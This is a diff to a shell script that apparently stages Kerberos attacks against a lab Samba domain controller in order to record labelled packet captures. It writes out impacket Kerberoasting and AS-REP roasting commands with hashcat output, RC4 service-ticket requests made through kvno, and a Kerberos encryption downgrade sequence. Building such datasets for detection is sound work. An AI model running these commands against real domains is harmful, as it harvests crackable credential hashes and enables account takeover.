@@ -55,18 +55,18 @@ scen_attacks() {
   newcc b1
   cap bruteforce_kerberos "$D and port 88" brute_krb
   # 6. Kerberoasting
-  #  (a) impacket GetUserSPNs -request -usersfile (TGS-REQs for the service accounts, RC4 asked; no
+  #  (a) impacket GetUserSPNs -request -usersfile (without KRB5CCNAME: impacket reads no "FILE:" prefix) (TGS-REQs for the service accounts, RC4 asked; no
   #      LDAP: impacket's LDAP NTLM bind is Sicily, which Samba does not speak). Samba 4.17's KDC
   #      refuses impacket 0.10's TGS-REQs with KRB_AP_ERR_INAPP_CKSUM: the attempt is on the wire.
   printf '%s\n' $SVC $SVC2 $SQLSVC $APPSVC > $G/spnusers.txt
-  cap kerberoast_attempt_getuserspns "$D and port 88" $PY $EX/GetUserSPNs.py -request -usersfile $G/spnusers.txt -dc-ip $DCIP "$REALM/$U1:$P1"
+  cap kerberoast_attempt_getuserspns "$D and port 88" env -u KRB5CCNAME $PY $EX/GetUserSPNs.py -request -usersfile $G/spnusers.txt -dc-ip $DCIP "$REALM/$U1:$P1"
   #  (b) the same pattern that succeeds, with MIT tools: AS (AES), then TGS-REQs asking only RC4 (kvno -e rc4-hmac)
   #      for four SPNs of three service accounts; the KDC issues RC4 service tickets
   newcc r2
   cap kerberoast_rc4_tgs_kvno "$D and port 88" bash -c "echo '$P1' | kinit $U1@$REALM && kvno -e rc4-hmac HTTP/$WEBF cifs/$ALIAS2.$DNSDOM MSSQLSvc/sql.$DNSDOM:1433 HTTP/app.$DNSDOM"
   # 7. AS-REP roasting: dave has userAccountControl 0x400200 (DONT_REQ_PREAUTH); impacket GetNPUsers
   #    without a password. Samba 4.17's KDC still answered KDC_ERR_PREAUTH_REQUIRED (see TRUTH.md).
-  cap asrep_roast_attempt_getnpusers "$D and port 88" $PY $EX/GetNPUsers.py -no-pass -dc-ip $DCIP -format hashcat "$REALM/$ROAST"
+  cap asrep_roast_attempt_getnpusers "$D and port 88" env -u KRB5CCNAME $PY $EX/GetNPUsers.py -no-pass -dc-ip $DCIP -format hashcat "$REALM/$ROAST"
   # 8. Kerberos downgrade: AES AS exchanges, then an RC4-only AS-REQ from the same client
   newcc d1
   cap krb_downgrade_aes_then_rc4 "$D and port 88" bash -c "echo '$P1' | kinit $U1@$REALM; kdestroy; echo '$P1' | kinit $U1@$REALM; kdestroy; echo '$P1' | KRB5_CONFIG=$G/krb5-rc4.conf kinit $U1@$REALM"
